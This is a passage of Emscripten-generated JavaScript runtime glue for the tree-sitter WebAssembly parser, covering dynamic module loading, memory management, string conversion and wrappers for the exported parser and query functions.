          var createInvokeFunction = /* @__PURE__ */ __name((sig) => (ptr, ...args2) => {
            var sp = stackSave();
            try {
              return dynCall(sig, ptr, args2);
            } catch (e) {
              stackRestore(sp);
              if (e !== e + 0) throw e;
              _setThrew(1, 0);
            }
          }, "createInvokeFunction");
          var resolveGlobalSymbol = /* @__PURE__ */ __name((symName, direct = false) => {
            var sym;
            if (direct && "orig$" + symName in wasmImports) {
              symName = "orig$" + symName;
            }
            if (isSymbolDefined(symName)) {
              sym = wasmImports[symName];
            } else if (symName.startsWith("invoke_")) {
              sym = wasmImports[symName] = createInvokeFunction(symName.split("_")[1]);
            }
            return {
              sym,
              name: symName
            };
          }, "resolveGlobalSymbol");
          var UTF8ToString = /* @__PURE__ */ __name((ptr, maxBytesToRead) => ptr ? UTF8ArrayToString(HEAPU8, ptr, maxBytesToRead) : "", "UTF8ToString");
          var loadWebAssemblyModule = /* @__PURE__ */ __name((binary, flags, libName, localScope, handle) => {
            var metadata = getDylinkMetadata(binary);
            currentModuleWeakSymbols = metadata.weakImports;
            function loadModule() {
              var firstLoad = !handle || !HEAP8[handle + 8];
              if (firstLoad) {
                var memAlign = Math.pow(2, metadata.memoryAlign);
                var memoryBase = metadata.memorySize ? alignMemory(getMemory(metadata.memorySize + memAlign), memAlign) : 0;
                var tableBase = metadata.tableSize ? wasmTable.length : 0;
                if (handle) {
                  HEAP8[handle + 8] = 1;
                  LE_HEAP_STORE_U32((handle + 12 >> 2) * 4, memoryBase);
                  LE_HEAP_STORE_I32((handle + 16 >> 2) * 4, metadata.memorySize);
                  LE_HEAP_STORE_U32((handle + 20 >> 2) * 4, tableBase);
                  LE_HEAP_STORE_I32((handle + 24 >> 2) * 4, metadata.tableSize);
                }
              } else {
                memoryBase = LE_HEAP_LOAD_U32((handle + 12 >> 2) * 4);
                tableBase = LE_HEAP_LOAD_U32((handle + 20 >> 2) * 4);
              }
              var tableGrowthNeeded = tableBase + metadata.tableSize - wasmTable.length;
              if (tableGrowthNeeded > 0) {
                wasmTable.grow(tableGrowthNeeded);
              }
              var moduleExports;
              function resolveSymbol(sym) {
                var resolved = resolveGlobalSymbol(sym).sym;
                if (!resolved && localScope) {
                  resolved = localScope[sym];
                }
                if (!resolved) {
                  resolved = moduleExports[sym];
                }
                return resolved;
              }
              __name(resolveSymbol, "resolveSymbol");
              var proxyHandler = {
                get(stubs, prop) {
                  switch (prop) {
                    case "__memory_base":
                      return memoryBase;
                    case "__table_base":
                      return tableBase;
                  }
                  if (prop in wasmImports && !wasmImports[prop].stub) {
                    return wasmImports[prop];
                  }
                  if (!(prop in stubs)) {
                    var resolved;
                    stubs[prop] = (...args2) => {
                      resolved ||= resolveSymbol(prop);
                      return resolved(...args2);
                    };
                  }
                  return stubs[prop];
                }
              };
              var proxy = new Proxy({}, proxyHandler);
              var info = {
                "GOT.mem": new Proxy({}, GOTHandler),
                "GOT.func": new Proxy({}, GOTHandler),
                "env": proxy,
                "wasi_snapshot_preview1": proxy
              };
              function postInstantiation(module, instance) {
                updateTableMap(tableBase, metadata.tableSize);
                moduleExports = relocateExports(instance.exports, memoryBase);
                if (!flags.allowUndefined) {
                  reportUndefinedSymbols();
                }
                function addEmAsm(addr, body) {
                  var args = [];
                  var arity = 0;
                  for (; arity < 16; arity++) {
                    if (body.indexOf("$" + arity) != -1) {
                      args.push("$" + arity);
                    } else {
                      break;
                    }
                  }
                  args = args.join(",");
                  var func = `(${args}) => { ${body} };`;
                  ASM_CONSTS[start] = eval(func);
                }
                __name(addEmAsm, "addEmAsm");
                if ("__start_em_asm" in moduleExports) {
                  var start = moduleExports["__start_em_asm"];
                  var stop = moduleExports["__stop_em_asm"];
                  while (start < stop) {
                    var jsString = UTF8ToString(start);
                    addEmAsm(start, jsString);
                    start = HEAPU8.indexOf(0, start) + 1;
                  }
                }
                function addEmJs(name, cSig, body) {
                  var jsArgs = [];
                  cSig = cSig.slice(1, -1);
                  if (cSig != "void") {
                    cSig = cSig.split(",");
                    for (var i in cSig) {
                      var jsArg = cSig[i].split(" ").pop();
                      jsArgs.push(jsArg.replace("*", ""));
                    }
                  }
                  var func = `(${jsArgs}) => ${body};`;
                  moduleExports[name] = eval(func);
                }
                __name(addEmJs, "addEmJs");
                for (var name in moduleExports) {
                  if (name.startsWith("__em_js__")) {
                    var start = moduleExports[name];
                    var jsString = UTF8ToString(start);
                    var parts = jsString.split("<::>");
                    addEmJs(name.replace("__em_js__", ""), parts[0], parts[1]);
                    delete moduleExports[name];
                  }
                }
                var applyRelocs = moduleExports["__wasm_apply_data_relocs"];
                if (applyRelocs) {
                  if (runtimeInitialized) {
                    applyRelocs();
                  } else {
                    __RELOC_FUNCS__.push(applyRelocs);
                  }
                }
                var init = moduleExports["__wasm_call_ctors"];
                if (init) {
                  if (runtimeInitialized) {
                    init();
                  } else {
                    __ATINIT__.push(init);
                  }
                }
                return moduleExports;
              }
              __name(postInstantiation, "postInstantiation");
              if (flags.loadAsync) {
                if (binary instanceof WebAssembly.Module) {
                  var instance = new WebAssembly.Instance(binary, info);
                  return Promise.resolve(postInstantiation(binary, instance));
                }
                return WebAssembly.instantiate(binary, info).then((result) => postInstantiation(result.module, result.instance));
              }
              var module = binary instanceof WebAssembly.Module ? binary : new WebAssembly.Module(binary);
              var instance = new WebAssembly.Instance(module, info);
              return postInstantiation(module, instance);
            }
            __name(loadModule, "loadModule");
            if (flags.loadAsync) {
              return metadata.neededDynlibs.reduce((chain, dynNeeded) => chain.then(() => loadDynamicLibrary(dynNeeded, flags, localScope)), Promise.resolve()).then(loadModule);
            }
            metadata.neededDynlibs.forEach((needed) => loadDynamicLibrary(needed, flags, localScope));
            return loadModule();
          }, "loadWebAssemblyModule");
          var mergeLibSymbols = /* @__PURE__ */ __name((exports3, libName2) => {
            for (var [sym, exp] of Object.entries(exports3)) {
              const setImport = /* @__PURE__ */ __name((target) => {
                if (!isSymbolDefined(target)) {
                  wasmImports[target] = exp;
                }
              }, "setImport");
              setImport(sym);
              const main_alias = "__main_argc_argv";
              if (sym == "main") {
                setImport(main_alias);
              }
              if (sym == main_alias) {
                setImport("main");
              }
              if (sym.startsWith("dynCall_") && !Module.hasOwnProperty(sym)) {
                Module[sym] = exp;
              }
            }
          }, "mergeLibSymbols");
          var asyncLoad = /* @__PURE__ */ __name((url, onload, onerror, noRunDep) => {
            var dep = !noRunDep ? getUniqueRunDependency(`al ${url}`) : "";
            readAsync(url).then((arrayBuffer) => {
              onload(new Uint8Array(arrayBuffer));
              if (dep) removeRunDependency(dep);
            }, (err2) => {
              if (onerror) {
                onerror();
              } else {
                throw `Loading data file "${url}" failed.`;
              }
            });
            if (dep) addRunDependency(dep);
          }, "asyncLoad");
          function loadDynamicLibrary(libName2, flags2 = {
            global: true,
            nodelete: true
          }, localScope2, handle2) {
            var dso = LDSO.loadedLibsByName[libName2];
            if (dso) {
              if (!flags2.global) {
                if (localScope2) {
                  Object.assign(localScope2, dso.exports);
                }
              } else if (!dso.global) {
                dso.global = true;
                mergeLibSymbols(dso.exports, libName2);
              }
              if (flags2.nodelete && dso.refcount !== Infinity) {
                dso.refcount = Infinity;
              }
              dso.refcount++;
              if (handle2) {
                LDSO.loadedLibsByHandle[handle2] = dso;
              }
              return flags2.loadAsync ? Promise.resolve(true) : true;
            }
            dso = newDSO(libName2, handle2, "loading");
            dso.refcount = flags2.nodelete ? Infinity : 1;
            dso.global = flags2.global;
            function loadLibData() {
              if (handle2) {
                var data = LE_HEAP_LOAD_U32((handle2 + 28 >> 2) * 4);
                var dataSize = LE_HEAP_LOAD_U32((handle2 + 32 >> 2) * 4);
                if (data && dataSize) {
                  var libData = HEAP8.slice(data, data + dataSize);
                  return flags2.loadAsync ? Promise.resolve(libData) : libData;
                }
              }
              var libFile = locateFile(libName2);
              if (flags2.loadAsync) {
                return new Promise(function(resolve, reject) {
                  asyncLoad(libFile, resolve, reject);
                });
              }
              if (!readBinary) {
                throw new Error(`${libFile}: file not found, and synchronous loading of external files is not available`);
              }
              return readBinary(libFile);
            }
            __name(loadLibData, "loadLibData");
            function getExports() {
              if (flags2.loadAsync) {
                return loadLibData().then((libData) => loadWebAssemblyModule(libData, flags2, libName2, localScope2, handle2));
              }
              return loadWebAssemblyModule(loadLibData(), flags2, libName2, localScope2, handle2);
            }
            __name(getExports, "getExports");
            function moduleLoaded(exports3) {
              if (dso.global) {
                mergeLibSymbols(exports3, libName2);
              } else if (localScope2) {
                Object.assign(localScope2, exports3);
              }
              dso.exports = exports3;
            }
            __name(moduleLoaded, "moduleLoaded");
            if (flags2.loadAsync) {
              return getExports().then((exports3) => {
                moduleLoaded(exports3);
                return true;
              });
            }
            moduleLoaded(getExports());
            return true;
          }
          __name(loadDynamicLibrary, "loadDynamicLibrary");
          var reportUndefinedSymbols = /* @__PURE__ */ __name(() => {
            for (var [symName, entry] of Object.entries(GOT)) {
              if (entry.value == 0) {
                var value = resolveGlobalSymbol(symName, true).sym;
                if (!value && !entry.required) {
                  continue;
                }
                if (typeof value == "function") {
                  entry.value = addFunction(value, value.sig);
                } else if (typeof value == "number") {
                  entry.value = value;
                } else {
                  throw new Error(`bad export type for '${symName}': ${typeof value}`);
                }
              }
            }
          }, "reportUndefinedSymbols");
          var loadDylibs = /* @__PURE__ */ __name(() => {
            if (!dynamicLibraries.length) {
              reportUndefinedSymbols();
              return;
            }
            addRunDependency("loadDylibs");
            dynamicLibraries.reduce((chain, lib) => chain.then(() => loadDynamicLibrary(lib, {
              loadAsync: true,
              global: true,
              nodelete: true,
              allowUndefined: true
            })), Promise.resolve()).then(() => {
              reportUndefinedSymbols();
              removeRunDependency("loadDylibs");
            });
          }, "loadDylibs");
          var noExitRuntime = Module["noExitRuntime"] || true;
          function setValue(ptr, value, type = "i8") {
            if (type.endsWith("*")) type = "*";
            switch (type) {
              case "i1":
                HEAP8[ptr] = value;
                break;
              case "i8":
                HEAP8[ptr] = value;
                break;
              case "i16":
                LE_HEAP_STORE_I16((ptr >> 1) * 2, value);
                break;
              case "i32":
                LE_HEAP_STORE_I32((ptr >> 2) * 4, value);
                break;
              case "i64":
                abort("to do setValue(i64) use WASM_BIGINT");
              case "float":
                LE_HEAP_STORE_F32((ptr >> 2) * 4, value);
                break;
              case "double":
                LE_HEAP_STORE_F64((ptr >> 3) * 8, value);
                break;
              case "*":
                LE_HEAP_STORE_U32((ptr >> 2) * 4, value);
                break;
              default:
                abort(`invalid type for setValue: ${type}`);
            }
          }
          __name(setValue, "setValue");
          var ___memory_base = new WebAssembly.Global({
            "value": "i32",
            "mutable": false
          }, 1024);
          var ___stack_pointer = new WebAssembly.Global({
            "value": "i32",
            "mutable": true
          }, 78240);
          var ___table_base = new WebAssembly.Global({
            "value": "i32",
            "mutable": false
          }, 1);
          var __abort_js = /* @__PURE__ */ __name(() => {
            abort("");
          }, "__abort_js");
          __abort_js.sig = "v";
          var nowIsMonotonic = 1;
          var __emscripten_get_now_is_monotonic = /* @__PURE__ */ __name(() => nowIsMonotonic, "__emscripten_get_now_is_monotonic");
          __emscripten_get_now_is_monotonic.sig = "i";
          var __emscripten_memcpy_js = /* @__PURE__ */ __name((dest, src, num) => HEAPU8.copyWithin(dest, src, src + num), "__emscripten_memcpy_js");
          __emscripten_memcpy_js.sig = "vppp";
          var _emscripten_date_now = /* @__PURE__ */ __name(() => Date.now(), "_emscripten_date_now");
          _emscripten_date_now.sig = "d";
          var _emscripten_get_now;
          _emscripten_get_now = /* @__PURE__ */ __name(() => performance.now(), "_emscripten_get_now");
          _emscripten_get_now.sig = "d";
          var getHeapMax = /* @__PURE__ */ __name(() => (
            // Stay one Wasm page short of 4GB: while e.g. Chrome is able to allocate
            // full 4GB Wasm memories, the size will wrap back to 0 bytes in Wasm side
            // for any code that deals with heap sizes, which would require special
            // casing all heap size related code to treat 0 specially.
            2147483648
          ), "getHeapMax");
          var growMemory = /* @__PURE__ */ __name((size) => {
            var b = wasmMemory.buffer;
            var pages = (size - b.byteLength + 65535) / 65536;
            try {
              wasmMemory.grow(pages);
              updateMemoryViews();
              return 1;
            } catch (e) {
            }
          }, "growMemory");
          var _emscripten_resize_heap = /* @__PURE__ */ __name((requestedSize) => {
            var oldSize = HEAPU8.length;
            requestedSize >>>= 0;
            var maxHeapSize = getHeapMax();
            if (requestedSize > maxHeapSize) {
              return false;
            }
            var alignUp = /* @__PURE__ */ __name((x, multiple) => x + (multiple - x % multiple) % multiple, "alignUp");
            for (var cutDown = 1; cutDown <= 4; cutDown *= 2) {
              var overGrownHeapSize = oldSize * (1 + 0.2 / cutDown);
              overGrownHeapSize = Math.min(overGrownHeapSize, requestedSize + 100663296);
              var newSize = Math.min(maxHeapSize, alignUp(Math.max(requestedSize, overGrownHeapSize), 65536));
              var replacement = growMemory(newSize);
              if (replacement) {
                return true;
              }
            }
            return false;
          }, "_emscripten_resize_heap");
          _emscripten_resize_heap.sig = "ip";
          var _fd_close = /* @__PURE__ */ __name((fd) => 52, "_fd_close");
          _fd_close.sig = "ii";
          var convertI32PairToI53Checked = /* @__PURE__ */ __name((lo, hi) => hi + 2097152 >>> 0 < 4194305 - !!lo ? (lo >>> 0) + hi * 4294967296 : NaN, "convertI32PairToI53Checked");
          function _fd_seek(fd, offset_low, offset_high, whence, newOffset) {
            var offset = convertI32PairToI53Checked(offset_low, offset_high);
            return 70;
          }
          __name(_fd_seek, "_fd_seek");
          _fd_seek.sig = "iiiiip";
          var printCharBuffers = [null, [], []];
          var printChar = /* @__PURE__ */ __name((stream, curr) => {
            var buffer = printCharBuffers[stream];
            if (curr === 0 || curr === 10) {
              (stream === 1 ? out : err)(UTF8ArrayToString(buffer, 0));
              buffer.length = 0;
            } else {
              buffer.push(curr);
            }
          }, "printChar");
          var flush_NO_FILESYSTEM = /* @__PURE__ */ __name(() => {
            if (printCharBuffers[1].length) printChar(1, 10);
            if (printCharBuffers[2].length) printChar(2, 10);
          }, "flush_NO_FILESYSTEM");
          var SYSCALLS = {
            varargs: void 0,
            getStr(ptr) {
              var ret = UTF8ToString(ptr);
              return ret;
            }
          };
          var _fd_write = /* @__PURE__ */ __name((fd, iov, iovcnt, pnum) => {
            var num = 0;
            for (var i2 = 0; i2 < iovcnt; i2++) {
              var ptr = LE_HEAP_LOAD_U32((iov >> 2) * 4);
              var len = LE_HEAP_LOAD_U32((iov + 4 >> 2) * 4);
              iov += 8;
              for (var j = 0; j < len; j++) {
                printChar(fd, HEAPU8[ptr + j]);
              }
              num += len;
            }
            LE_HEAP_STORE_U32((pnum >> 2) * 4, num);
            return 0;
          }, "_fd_write");
          _fd_write.sig = "iippp";
          function _tree_sitter_log_callback(isLexMessage, messageAddress) {
            if (Module.currentLogCallback) {
              const message = UTF8ToString(messageAddress);
              Module.currentLogCallback(message, isLexMessage !== 0);
            }
          }
          __name(_tree_sitter_log_callback, "_tree_sitter_log_callback");
          function _tree_sitter_parse_callback(inputBufferAddress, index, row, column, lengthAddress) {
            const INPUT_BUFFER_SIZE = 10 * 1024;
            const string = Module.currentParseCallback(index, {
              row,
              column
            });
            if (typeof string === "string") {
              setValue(lengthAddress, string.length, "i32");
              stringToUTF16(string, inputBufferAddress, INPUT_BUFFER_SIZE);
            } else {
              setValue(lengthAddress, 0, "i32");
            }
          }
          __name(_tree_sitter_parse_callback, "_tree_sitter_parse_callback");
          function _tree_sitter_progress_callback(currentOffset, hasError) {
            if (Module.currentProgressCallback) {
              return Module.currentProgressCallback({
                currentOffset,
                hasError
              });
            }
            return false;
          }
          __name(_tree_sitter_progress_callback, "_tree_sitter_progress_callback");
          function _tree_sitter_query_progress_callback(currentOffset) {
            if (Module.currentQueryProgressCallback) {
              return Module.currentQueryProgressCallback({
                currentOffset
              });
            }
            return false;
          }
          __name(_tree_sitter_query_progress_callback, "_tree_sitter_query_progress_callback");
          var runtimeKeepaliveCounter = 0;
          var keepRuntimeAlive = /* @__PURE__ */ __name(() => noExitRuntime || runtimeKeepaliveCounter > 0, "keepRuntimeAlive");
          var _proc_exit = /* @__PURE__ */ __name((code) => {
            EXITSTATUS = code;
            if (!keepRuntimeAlive()) {
              Module["onExit"]?.(code);
              ABORT = true;
            }
            quit_(code, new ExitStatus(code));
          }, "_proc_exit");
          _proc_exit.sig = "vi";
          var exitJS = /* @__PURE__ */ __name((status, implicit) => {
            EXITSTATUS = status;
            _proc_exit(status);
          }, "exitJS");
          var handleException = /* @__PURE__ */ __name((e) => {
            if (e instanceof ExitStatus || e == "unwind") {
              return EXITSTATUS;
            }
            quit_(1, e);
          }, "handleException");
          var lengthBytesUTF8 = /* @__PURE__ */ __name((str) => {
            var len = 0;
            for (var i2 = 0; i2 < str.length; ++i2) {
              var c = str.charCodeAt(i2);
              if (c <= 127) {
                len++;
              } else if (c <= 2047) {
                len += 2;
              } else if (c >= 55296 && c <= 57343) {
                len += 4;
                ++i2;
              } else {
                len += 3;
              }
            }
            return len;
          }, "lengthBytesUTF8");
          var stringToUTF8Array = /* @__PURE__ */ __name((str, heap, outIdx, maxBytesToWrite) => {
            if (!(maxBytesToWrite > 0)) return 0;
            var startIdx = outIdx;
            var endIdx = outIdx + maxBytesToWrite - 1;
            for (var i2 = 0; i2 < str.length; ++i2) {
              var u = str.charCodeAt(i2);
              if (u >= 55296 && u <= 57343) {
                var u1 = str.charCodeAt(++i2);
                u = 65536 + ((u & 1023) << 10) | u1 & 1023;
              }
              if (u <= 127) {
                if (outIdx >= endIdx) break;
                heap[outIdx++] = u;
              } else if (u <= 2047) {
                if (outIdx + 1 >= endIdx) break;
                heap[outIdx++] = 192 | u >> 6;
                heap[outIdx++] = 128 | u & 63;
              } else if (u <= 65535) {
                if (outIdx + 2 >= endIdx) break;
                heap[outIdx++] = 224 | u >> 12;
                heap[outIdx++] = 128 | u >> 6 & 63;
                heap[outIdx++] = 128 | u & 63;
              } else {
                if (outIdx + 3 >= endIdx) break;
                heap[outIdx++] = 240 | u >> 18;
                heap[outIdx++] = 128 | u >> 12 & 63;
                heap[outIdx++] = 128 | u >> 6 & 63;
                heap[outIdx++] = 128 | u & 63;
              }
            }
            heap[outIdx] = 0;
            return outIdx - startIdx;
          }, "stringToUTF8Array");
          var stringToUTF8 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => stringToUTF8Array(str, HEAPU8, outPtr, maxBytesToWrite), "stringToUTF8");
          var stackAlloc = /* @__PURE__ */ __name((sz) => __emscripten_stack_alloc(sz), "stackAlloc");
          var stringToUTF8OnStack = /* @__PURE__ */ __name((str) => {
            var size = lengthBytesUTF8(str) + 1;
            var ret = stackAlloc(size);
            stringToUTF8(str, ret, size);
            return ret;
          }, "stringToUTF8OnStack");
          var AsciiToString = /* @__PURE__ */ __name((ptr) => {
            var str = "";
            while (1) {
              var ch = HEAPU8[ptr++];
              if (!ch) return str;
              str += String.fromCharCode(ch);
            }
          }, "AsciiToString");
          var stringToUTF16 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => {
            maxBytesToWrite ??= 2147483647;
            if (maxBytesToWrite < 2) return 0;
            maxBytesToWrite -= 2;
            var startPtr = outPtr;
            var numCharsToWrite = maxBytesToWrite < str.length * 2 ? maxBytesToWrite / 2 : str.length;
            for (var i2 = 0; i2 < numCharsToWrite; ++i2) {
              var codeUnit = str.charCodeAt(i2);
              LE_HEAP_STORE_I16((outPtr >> 1) * 2, codeUnit);
              outPtr += 2;
            }
            LE_HEAP_STORE_I16((outPtr >> 1) * 2, 0);
            return outPtr - startPtr;
          }, "stringToUTF16");
          var wasmImports = {
            /** @export */
            __heap_base: ___heap_base,
            /** @export */
            __indirect_function_table: wasmTable,
            /** @export */
            __memory_base: ___memory_base,
            /** @export */
            __stack_pointer: ___stack_pointer,
            /** @export */
            __table_base: ___table_base,
            /** @export */
            _abort_js: __abort_js,
            /** @export */
            _emscripten_get_now_is_monotonic: __emscripten_get_now_is_monotonic,
            /** @export */
            _emscripten_memcpy_js: __emscripten_memcpy_js,
            /** @export */
            emscripten_date_now: _emscripten_date_now,
            /** @export */
            emscripten_get_now: _emscripten_get_now,
            /** @export */
            emscripten_resize_heap: _emscripten_resize_heap,
            /** @export */
            fd_close: _fd_close,
            /** @export */
            fd_seek: _fd_seek,
            /** @export */
            fd_write: _fd_write,
            /** @export */
            memory: wasmMemory,
            /** @export */
            tree_sitter_log_callback: _tree_sitter_log_callback,
            /** @export */
            tree_sitter_parse_callback: _tree_sitter_parse_callback,
            /** @export */
            tree_sitter_progress_callback: _tree_sitter_progress_callback,
            /** @export */
            tree_sitter_query_progress_callback: _tree_sitter_query_progress_callback
          };
          var wasmExports = createWasm();
          var ___wasm_call_ctors = /* @__PURE__ */ __name(() => (___wasm_call_ctors = wasmExports["__wasm_call_ctors"])(), "___wasm_call_ctors");
          var ___wasm_apply_data_relocs = /* @__PURE__ */ __name(() => (___wasm_apply_data_relocs = wasmExports["__wasm_apply_data_relocs"])(), "___wasm_apply_data_relocs");
          var _malloc = Module["_malloc"] = (a0) => (_malloc = Module["_malloc"] = wasmExports["malloc"])(a0);
          var _calloc = Module["_calloc"] = (a0, a1) => (_calloc = Module["_calloc"] = wasmExports["calloc"])(a0, a1);
          var _realloc = Module["_realloc"] = (a0, a1) => (_realloc = Module["_realloc"] = wasmExports["realloc"])(a0, a1);
          var _free = Module["_free"] = (a0) => (_free = Module["_free"] = wasmExports["free"])(a0);
          var _memcmp = Module["_memcmp"] = (a0, a1, a2) => (_memcmp = Module["_memcmp"] = wasmExports["memcmp"])(a0, a1, a2);
          var _ts_language_symbol_count = Module["_ts_language_symbol_count"] = (a0) => (_ts_language_symbol_count = Module["_ts_language_symbol_count"] = wasmExports["ts_language_symbol_count"])(a0);
          var _ts_language_state_count = Module["_ts_language_state_count"] = (a0) => (_ts_language_state_count = Module["_ts_language_state_count"] = wasmExports["ts_language_state_count"])(a0);
          var _ts_language_version = Module["_ts_language_version"] = (a0) => (_ts_language_version = Module["_ts_language_version"] = wasmExports["ts_language_version"])(a0);
          var _ts_language_abi_version = Module["_ts_language_abi_version"] = (a0) => (_ts_language_abi_version = Module["_ts_language_abi_version"] = wasmExports["ts_language_abi_version"])(a0);
          var _ts_language_metadata = Module["_ts_language_metadata"] = (a0) => (_ts_language_metadata = Module["_ts_language_metadata"] = wasmExports["ts_language_metadata"])(a0);
          var _ts_language_name = Module["_ts_language_name"] = (a0) => (_ts_language_name = Module["_ts_language_name"] = wasmExports["ts_language_name"])(a0);
          var _ts_language_field_count = Module["_ts_language_field_count"] = (a0) => (_ts_language_field_count = Module["_ts_language_field_count"] = wasmExports["ts_language_field_count"])(a0);
          var _ts_language_next_state = Module["_ts_language_next_state"] = (a0, a1, a2) => (_ts_language_next_state = Module["_ts_language_next_state"] = wasmExports["ts_language_next_state"])(a0, a1, a2);
          var _ts_language_symbol_name = Module["_ts_language_symbol_name"] = (a0, a1) => (_ts_language_symbol_name = Module["_ts_language_symbol_name"] = wasmExports["ts_language_symbol_name"])(a0, a1);
          var _ts_language_symbol_for_name = Module["_ts_language_symbol_for_name"] = (a0, a1, a2, a3) => (_ts_language_symbol_for_name = Module["_ts_language_symbol_for_name"] = wasmExports["ts_language_symbol_for_name"])(a0, a1, a2, a3);
          var _strncmp = Module["_strncmp"] = (a0, a1, a2) => (_strncmp = Module["_strncmp"] = wasmExports["strncmp"])(a0, a1, a2);
          var _ts_language_symbol_type = Module["_ts_language_symbol_type"] = (a0, a1) => (_ts_language_symbol_type = Module["_ts_language_symbol_type"] = wasmExports["ts_language_symbol_type"])(a0, a1);
          var _ts_language_field_name_for_id = Module["_ts_language_field_name_for_id"] = (a0, a1) => (_ts_language_field_name_for_id = Module["_ts_language_field_name_for_id"] = wasmExports["ts_language_field_name_for_id"])(a0, a1);
          var _ts_lookahead_iterator_new = Module["_ts_lookahead_iterator_new"] = (a0, a1) => (_ts_lookahead_iterator_new = Module["_ts_lookahead_iterator_new"] = wasmExports["ts_lookahead_iterator_new"])(a0, a1);
          var _ts_lookahead_iterator_delete = Module["_ts_lookahead_iterator_delete"] = (a0) => (_ts_lookahead_iterator_delete = Module["_ts_lookahead_iterator_delete"] = wasmExports["ts_lookahead_iterator_delete"])(a0);
          var _ts_lookahead_iterator_reset_state = Module["_ts_lookahead_iterator_reset_state"] = (a0, a1) => (_ts_lookahead_iterator_reset_state = Module["_ts_lookahead_iterator_reset_state"] = wasmExports["ts_lookahead_iterator_reset_state"])(a0, a1);
          var _ts_lookahead_iterator_reset = Module["_ts_lookahead_iterator_reset"] = (a0, a1, a2) => (_ts_lookahead_iterator_reset = Module["_ts_lookahead_iterator_reset"] = wasmExports["ts_lookahead_iterator_reset"])(a0, a1, a2);
          var _ts_lookahead_iterator_next = Module["_ts_lookahead_iterator_next"] = (a0) => (_ts_lookahead_iterator_next = Module["_ts_lookahead_iterator_next"] = wasmExports["ts_lookahead_iterator_next"])(a0);
          var _ts_lookahead_iterator_current_symbol = Module["_ts_lookahead_iterator_current_symbol"] = (a0) => (_ts_lookahead_iterator_current_symbol = Module["_ts_lookahead_iterator_current_symbol"] = wasmExports["ts_lookahead_iterator_current_symbol"])(a0);
          var _memset = Module["_memset"] = (a0, a1, a2) => (_memset = Module["_memset"] = wasmExports["memset"])(a0, a1, a2);
          var _memcpy = Module["_memcpy"] = (a0, a1, a2) => (_memcpy = Module["_memcpy"] = wasmExports["memcpy"])(a0, a1, a2);
          var _ts_parser_delete = Module["_ts_parser_delete"] = (a0) => (_ts_parser_delete = Module["_ts_parser_delete"] = wasmExports["ts_parser_delete"])(a0);
          var _ts_parser_reset = Module["_ts_parser_reset"] = (a0) => (_ts_parser_reset = Module["_ts_parser_reset"] = wasmExports["ts_parser_reset"])(a0);
          var _ts_parser_set_language = Module["_ts_parser_set_language"] = (a0, a1) => (_ts_parser_set_language = Module["_ts_parser_set_language"] = wasmExports["ts_parser_set_language"])(a0, a1);
          var _ts_parser_timeout_micros = Module["_ts_parser_timeout_micros"] = (a0) => (_ts_parser_timeout_micros = Module["_ts_parser_timeout_micros"] = wasmExports["ts_parser_timeout_micros"])(a0);
          var _ts_parser_set_timeout_micros = Module["_ts_parser_set_timeout_micros"] = (a0, a1, a2) => (_ts_parser_set_timeout_micros = Module["_ts_parser_set_timeout_micros"] = wasmExports["ts_parser_set_timeout_micros"])(a0, a1, a2);
          var _ts_parser_set_included_ranges = Module["_ts_parser_set_included_ranges"] = (a0, a1, a2) => (_ts_parser_set_included_ranges = Module["_ts_parser_set_included_ranges"] = wasmExports["ts_parser_set_included_ranges"])(a0, a1, a2);
          var _memmove = Module["_memmove"] = (a0, a1, a2) => (_memmove = Module["_memmove"] = wasmExports["memmove"])(a0, a1, a2);
          var _ts_query_new = Module["_ts_query_new"] = (a0, a1, a2, a3, a4) => (_ts_query_new = Module["_ts_query_new"] = wasmExports["ts_query_new"])(a0, a1, a2, a3, a4);
          var _ts_query_delete = Module["_ts_query_delete"] = (a0) => (_ts_query_delete = Module["_ts_query_delete"] = wasmExports["ts_query_delete"])(a0);
          var _iswspace = Module["_iswspace"] = (a0) => (_iswspace = Module["_iswspace"] = wasmExports["iswspace"])(a0);
          var _iswalnum = Module["_iswalnum"] = (a0) => (_iswalnum = Module["_iswalnum"] = wasmExports["iswalnum"])(a0);
          var _ts_query_pattern_count = Module["_ts_query_pattern_count"] = (a0) => (_ts_query_pattern_count = Module["_ts_query_pattern_count"] = wasmExports["ts_query_pattern_count"])(a0);
          var _ts_query_capture_count = Module["_ts_query_capture_count"] = (a0) => (_ts_query_capture_count = Module["_ts_query_capture_count"] = wasmExports["ts_query_capture_count"])(a0);
          var _ts_query_string_count = Module["_ts_query_string_count"] = (a0) => (_ts_query_string_count = Module["_ts_query_string_count"] = wasmExports["ts_query_string_count"])(a0);
          var _ts_query_capture_name_for_id = Module["_ts_query_capture_name_for_id"] = (a0, a1, a2) => (_ts_query_capture_name_for_id = Module["_ts_query_capture_name_for_id"] = wasmExports["ts_query_capture_name_for_id"])(a0, a1, a2);
          var _ts_query_capture_quantifier_for_id = Module["_ts_query_capture_quantifier_for_id"] = (a0, a1, a2) => (_ts_query_capture_quantifier_for_id = Module["_ts_query_capture_quantifier_for_id"] = wasmExports["ts_query_capture_quantifier_for_id"])(a0, a1, a2);
          var _ts_query_string_value_for_id = Module["_ts_query_string_value_for_id"] = (a0, a1, a2) => (_ts_query_string_value_for_id = Module["_ts_query_string_value_for_id"] = wasmExports["ts_query_string_value_for_id"])(a0, a1, a2);
          var _ts_query_predicates_for_pattern = Module["_ts_query_predicates_for_pattern"] = (a0, a1, a2) => (_ts_query_predicates_for_pattern = Module["_ts_query_predicates_for_pattern"] = wasmExports["ts_query_predicates_for_pattern"])(a0, a1, a2);
          var _ts_query_start_byte_for_pattern = Module["_ts_query_start_byte_for_pattern"] = (a0, a1) => (_ts_query_start_byte_for_pattern = Module["_ts_query_start_byte_for_pattern"] = wasmExports["ts_query_start_byte_for_pattern"])(a0, a1);
          var _ts_query_end_byte_for_pattern = Module["_ts_query_end_byte_for_pattern"] = (a0, a1) => (_ts_query_end_byte_for_pattern = Module["_ts_query_end_byte_for_pattern"] = wasmExports["ts_query_end_byte_for_pattern"])(a0, a1);
          var _ts_query_is_pattern_rooted = Module["_ts_query_is_pattern_rooted"] = (a0, a1) => (_ts_query_is_pattern_rooted = Module["_ts_query_is_pattern_rooted"] = wasmExports["ts_query_is_pattern_rooted"])(a0, a1);
          var _ts_query_is_pattern_non_local = Module["_ts_query_is_pattern_non_local"] = (a0, a1) => (_ts_query_is_pattern_non_local = Module["_ts_query_is_pattern_non_local"] = wasmExports["ts_query_is_pattern_non_local"])(a0, a1);
